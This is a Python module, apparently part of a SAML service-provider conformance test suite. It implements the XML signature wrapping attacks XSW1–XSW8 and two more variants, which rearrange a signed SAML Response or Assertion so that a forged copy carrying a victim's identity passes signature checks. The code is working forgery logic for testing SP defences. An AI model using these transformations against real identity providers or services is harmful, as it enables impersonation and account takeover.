"""XML signature wrapping: the eight arrangements XSW1–XSW8 as SAMLRaider builds them, and two more.

Each moves the IdP's genuinely signed element somewhere the SP's signature check still finds it, and puts
an evil copy — the victim's identity — where the SP's code reads (Somorovsky et al., "On Breaking SAML:
Be Whoever You Want to Be", USENIX Security 2012). XSW1–2 wrap a signed Response, XSW3–8 a signed
Assertion. ``evil`` turns a copy into the forgery (in practice: swap the identity to the victim's).

Example::

    root = parse(minted_signed_assertion)
    xsw3(root, lambda element: swap_identity(element, member, victim))
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from conformance.saml_sp.messages import SAMLP, assertion_of, new_id, signature_of, strip_signatures

Evil = Callable[[etree._Element], object]


def _signature(element: etree._Element) -> etree._Element:
    signature = signature_of(element)
    if signature is None:
        raise ValueError(f"{element.tag} is not signed")
    return signature


def xsw1(root: etree._Element, evil: Evil) -> None:
    """XSW1: the Response becomes evil (new ID); an unsigned copy of the original is put *inside* its
    ds:Signature, where the signature's Reference still finds it."""
    original = copy.deepcopy(root)
    strip_signatures(original)
    evil(root)
    _signature(root).append(original)
    root.set("ID", new_id("_evil_response"))


def xsw2(root: etree._Element, evil: Evil) -> None:
    """XSW2: as XSW1, but the unsigned original copy goes right *before* the ds:Signature (detached)."""
    original = copy.deepcopy(root)
    strip_signatures(original)
    evil(root)
    signature = _signature(root)
    signature.addprevious(original)
    root.set("ID", new_id("_evil_response"))


def xsw3(root: etree._Element, evil: Evil) -> None:
    """XSW3: an unsigned evil Assertion (new ID) goes before the signed one, as the Response's first."""
    original = assertion_of(root)
    forged = copy.deepcopy(original)
    evil(forged)
    forged.set("ID", new_id("_evil_assertion"))
    strip_signatures(forged)
    original.addprevious(forged)


def xsw4(root: etree._Element, evil: Evil) -> None:
    """XSW4: the unsigned evil Assertion takes the signed one's place and carries it inside itself."""
    original = assertion_of(root)
    forged = copy.deepcopy(original)
    evil(forged)
    forged.set("ID", new_id("_evil_assertion"))
    strip_signatures(forged)
    root.append(forged)
    forged.append(original)


def xsw5(root: etree._Element, evil: Evil) -> None:
    """XSW5: the signed Assertion itself turns evil (new ID, its signature kept); an unsigned copy of the
    original, which the kept signature still references, goes to the end of the Response."""
    forged = assertion_of(root)
    original = copy.deepcopy(forged)
    strip_signatures(original)
    evil(forged)
    root.append(original)
    forged.set("ID", new_id("_evil_assertion"))


def xsw6(root: etree._Element, evil: Evil) -> None:
    """XSW6: as XSW5, but the unsigned original copy goes inside the kept ds:Signature."""
    forged = assertion_of(root)
    signature = _signature(forged)
    original = copy.deepcopy(forged)
    strip_signatures(original)
    evil(forged)
    signature.append(original)
    forged.set("ID", new_id("_evil_assertion"))


def xsw7(root: etree._Element, evil: Evil) -> None:
    """XSW7: an ``Extensions`` element (no namespace) before the signed Assertion holds an unsigned evil
    copy that keeps the original's ID."""
    original = assertion_of(root)
    extensions = etree.Element("Extensions")
    original.addprevious(extensions)
    forged = copy.deepcopy(original)
    evil(forged)
    strip_signatures(forged)
    extensions.append(forged)


def xsw8(root: etree._Element, evil: Evil) -> None:
    """XSW8: the signed Assertion turns evil in place (same ID, signature kept); its ds:Signature gets an
    ``Object`` element (no namespace) holding the unsigned original."""
    forged = assertion_of(root)
    signature = _signature(forged)
    original = copy.deepcopy(forged)
    strip_signatures(original)
    evil(forged)
    holder = etree.SubElement(signature, "Object")
    holder.append(original)


def duplicate_id(root: etree._Element, evil: Evil) -> None:
    """Two Assertions with the same ID: an unsigned evil one first, the signed original after it."""
    original = assertion_of(root)
    forged = copy.deepcopy(original)
    evil(forged)
    strip_signatures(forged)
    original.addprevious(forged)


def reference_elsewhere(root: etree._Element, evil: Evil) -> None:
    """The evil Assertion (new ID) carries the original's signature, whose Reference points at the signed
    original — moved into the Response's ``samlp:Extensions``, a place the schema allows."""
    original = assertion_of(root)
    forged = copy.deepcopy(original)
    evil(forged)
    forged.set("ID", new_id("_evil_assertion"))
    original.addprevious(forged)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    status = root.find(f"{{{SAMLP}}}Status")
    (status if status is not None else forged).addprevious(extensions)
    extensions.append(original)


WRAPPINGS = {
    1: xsw1,
    2: xsw2,
    3: xsw3,
    4: xsw4,
    5: xsw5,
    6: xsw6,
    7: xsw7,
    8: xsw8,
}
RESPONSE_LEVEL = frozenset({1, 2})
"""The arrangements that wrap a signed Response (the others wrap a signed Assertion)."""
